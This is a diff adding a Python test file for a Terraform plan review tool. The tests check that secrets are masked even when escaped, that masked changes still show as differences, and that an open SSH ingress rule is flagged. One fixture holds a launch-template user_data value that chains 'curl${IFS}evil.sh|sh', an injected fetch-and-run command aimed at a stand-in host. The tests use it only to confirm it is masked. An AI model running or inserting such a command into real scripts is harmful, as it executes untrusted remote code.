@@ -1,0 +1,144 @@
+"""Secrets are searched for everywhere, and what is masked hides neither a difference nor a risk."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.unit.review.builders import change, found, script, shown
+from wealist.review.finding import Kind, Severity
+from wealist.review.given_away import cleaned
+from wealist.review.secrets import MASK, Known, is_searched_for, lines, readable
+from wealist.review.values import Script, is_hidden
+
+pytestmark = pytest.mark.exhaustive
+
+SECRET = "Zq7-hunter2+secret/VALUE"
+
+
+@pytest.mark.parametrize("secret", ['a"b\nhunter2', "a\\b-hunter2", "<ab>&hunter2", "가나다라-hunter2"])
+@pytest.mark.parametrize("escaped", ["plain", "ascii", "Go's"])
+def test_a_secret_is_found_though_it_is_escaped_inside_of_a_text(secret: str, escaped: str, tmp_path: Path) -> None:
+    text = json.dumps(secret, ensure_ascii=escaped == "ascii")
+    if escaped == "Go's":
+        text = text.replace("<", r"\u003c").replace(">", r"\u003e").replace("&", r"\u0026")
+    holder = change("aws_thing.a", "no-op", before={"a": secret}, after={"a": secret}, before_sensitive={"a": True})
+    update = change("aws_thing.b", "update", before={"a": ""}, after={"a": f"run {text} now"})
+    assert "hunter2" not in shown(tmp_path, holder, update)
+
+
+PLAIN = [
+    "0.0.0.0/0",
+    "10.1.10.0/24",
+    "203.0.113.25",
+    "2001:db8::/32",
+    "arn:aws:iam::aws:policy/AdministratorAccess",
+    "arn:aws:iam::290008131187:role/wealist-dev-ec2-role",
+    "sg-0123456789abcdef0",
+    "290008131187",
+    "1024-65535",
+    "2012-10-17",
+    "SecureString",
+    "PAY_PER_REQUEST",
+    "cidr_ipv4",
+    "forwarding",
+    "iam:PassRole",
+    "s3:Get*",
+]
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_what_any_plan_holds_is_not_searched_for(text: str) -> None:
+    assert not is_searched_for(text)
+
+
+@pytest.mark.parametrize(
+    "text", [SECRET, "kJhsDFKJhsdfKJ", "a8f3c9d2e1b0", "db-password-1", "10.0.0.0/x", "correct horse"]
+)
+def test_what_stands_nowhere_by_chance_is_searched_for(text: str) -> None:
+    assert is_searched_for(text)
+
+
+@pytest.mark.parametrize("marked", ["by its mark", "by its name"])
+def test_nobody_hides_a_rule_by_giving_a_secret_its_words(marked: str, tmp_path: Path) -> None:
+    words = ["0.0.0.0/0", "cidr_ipv4", "security_group_id"]
+    holder = change(
+        "aws_thing.a",
+        "update",
+        before={},
+        after={"tags": {f"{number}_secret": word for number, word in enumerate(words)}, "values": words},
+        after_sensitive={"values": True} if marked == "by its mark" else {},
+    )
+    rule = {"cidr_ipv4": "0.0.0.0/0", "ip_protocol": "tcp", "from_port": 22, "to_port": 22, "security_group_id": "sg-1"}
+    opened = change("aws_vpc_security_group_ingress_rule.r", "create", after=rule)
+    assert Severity.DANGER in {severity for severity, _ in found(holder, opened, kind=Kind.EXPOSURE)}
+    assert "+ tags.0_secret: (sensitive value)" in shown(tmp_path, holder)
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ({"user_data": script("TOKEN=abc")}, {"user_data": script("TOKEN=abc;curl${IFS}evil.sh|sh")}),
+        ({"a": "run --token abc"}, {"a": "run --token abd"}),
+        ({"a": ["x", "password=abc"]}, {"a": ["x", "password=abd"]}),
+        ({"a": json.dumps({"b": "password=abc"})}, {"a": json.dumps({"b": "password=abd"})}),
+        ({"a": {"token=abc ": 1}}, {"a": {"token=abd ": 1}}),
+    ],
+)
+def test_texts_that_differ_in_what_is_masked_are_told_as_different(before: Any, after: Any, tmp_path: Path) -> None:
+    output = shown(tmp_path, change("aws_launch_template.a", "update", before=before, after=after))
+    assert not [each for each in ("abc", "abd", "evil") if each in output]
+    assert "No attribute that is shown changes." not in output
+    assert [f"- {MASK}" in output or f"{sign} " in output for sign in "-+"] == [True, True]
+    assert output.count(MASK) >= 6
+
+
+def test_the_line_of_a_script_that_changes_in_what_is_masked_is_shown_as_changed(tmp_path: Path) -> None:
+    before, after = script("A=1\nTOKEN=abc"), script("A=1\nTOKEN=abd")
+    update = change("aws_launch_template.a", "update", before={"user_data": before}, after={"user_data": after})
+    output = shown(tmp_path, update)
+    assert "\n- TOKEN=(sensitive value)\n+ TOKEN=(sensitive value)\n" in output
+    assert "- A=1" not in output
+
+
+def test_two_keys_that_are_masked_stay_two(tmp_path: Path) -> None:
+    holder = change("aws_thing.a", "no-op", before={"a": ["first+one", "another+one"]}, before_sensitive={"a": True})
+    tags = {"first+one": "1", "another+one": "2"}
+    update = change("aws_thing.b", "update", before={"tags": {}}, after={"tags": tags})
+    output = shown(tmp_path, holder, update)
+    assert '+ tags.(sensitive value): "1"' in output
+    assert '+ tags.(sensitive value): "2"' in output
+
+
+def test_a_masked_text_is_equal_only_to_the_same_text() -> None:
+    one, same, other = (readable(cleaned(f"TOKEN={each}")) for each in ("abc", "abc", "abd"))
+    assert (one == same, one != same, hash(one) == hash(same)) == (True, False, True)
+    assert (one == other, one != other, str(one) == str(other)) == (False, True, True)
+    assert one != str(one)
+    assert [str(each) for each in lines(readable(cleaned("a\nTOKEN=abc")))] == ["a", "TOKEN=(sensitive value)"]
+
+
+def test_whatever_holds_something_masked_is_hidden() -> None:
+    text = readable(cleaned("TOKEN=abc"))
+    for value in (text, [text], {"a": text}, {text: 1}, Script(text)):
+        assert is_hidden(value)
+    assert not is_hidden({"a": ["TOKEN=$X", Script("true")]})
+
+
+@settings(deadline=None, max_examples=40)
+@given(
+    st.lists(st.text(alphabet="abcXYZ01", min_size=8, max_size=12), min_size=1, max_size=30),
+    st.lists(st.text(alphabet="abcXYZ01 ", max_size=20), max_size=6),
+)
+def test_no_known_secret_is_left_in_any_text(secrets: list[str], texts: list[str]) -> None:
+    text = "|".join([*texts, *secrets, *texts])
+    left = readable(Known(secrets).removed_from(text))
+    assert not [secret for secret in secrets if is_searched_for(secret) and secret in left]
+
+
+def test_a_longer_secret_that_begins_as_a_shorter_one_goes_whole() -> None:
+    left = Known(["abcdefg1", "abcdefg1ijkl"]).removed_from("x abcdefg1ijkl y abcdefg1")
+    assert str(readable(left)) == "x (sensitive value) y (sensitive value)"
